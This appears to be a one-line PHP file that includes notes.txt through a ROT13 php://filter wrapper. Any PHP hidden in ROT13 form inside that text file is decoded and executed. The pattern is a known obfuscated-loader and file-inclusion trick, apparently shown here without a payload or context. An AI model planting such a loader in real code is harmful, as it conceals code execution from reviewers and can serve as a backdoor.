<?php
include('php://filter/read=string.rot13/resource=notes.txt');
